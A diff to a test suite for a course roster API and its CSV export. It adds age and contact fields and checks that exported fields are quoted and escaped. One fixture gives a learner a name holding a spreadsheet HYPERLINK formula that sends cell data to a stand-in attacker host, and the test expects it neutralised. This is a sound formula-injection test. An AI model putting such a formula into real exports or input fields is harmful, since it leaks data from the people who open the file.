@@ -171,6 +171,11 @@ describe('roster', () => {
       learnerId: hacker.id,
       learnerName: `${hacker.firstName} ${hacker.lastName}`,
       learnerEmail: hacker.email,
+      // Their own seat (no learner profile of a family account, ADR 0074).
+      learnerProfileId: null,
+      learnerAge: null,
+      contactName: null,
+      notes: null,
       status: 'active',
       enrolledAt: expect.any(String),
       payment: { status: 'free', label: 'Free', paidInstallments: null, installments: null },
@@ -194,10 +199,12 @@ describe('roster', () => {
     expect(res.headers['content-type']).toMatch(/^text\/csv/);
     expect(res.headers['content-disposition']).toBe('attachment; filename="ink-wash-basics-roster.csv"');
     const lines = res.body.split('\r\n').filter(Boolean);
-    expect(lines[0]).toBe('"Session start","Name","Email","Status","Payment","Enrolled at","Waitlist place","Offer held until"');
+    expect(lines[0]).toBe(
+      '"Session start","Name","Email","Status","Payment","Enrolled at","Waitlist place","Offer held until","Age","Contact"',
+    );
     expect(lines).toHaveLength(1 + 4);
     // Every field is quoted; embedded quotes are doubled; the comma stays inside its field.
-    for (const line of lines) expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*"){7}$/);
+    for (const line of lines) expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*"){9}$/);
     const hackerLine = lines.find((l) => l.includes(hacker.email))!;
     const nameCell = hackerLine.split('","')[1];
     expect(nameCell).toBe(`'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"") Smith, Jr.`);
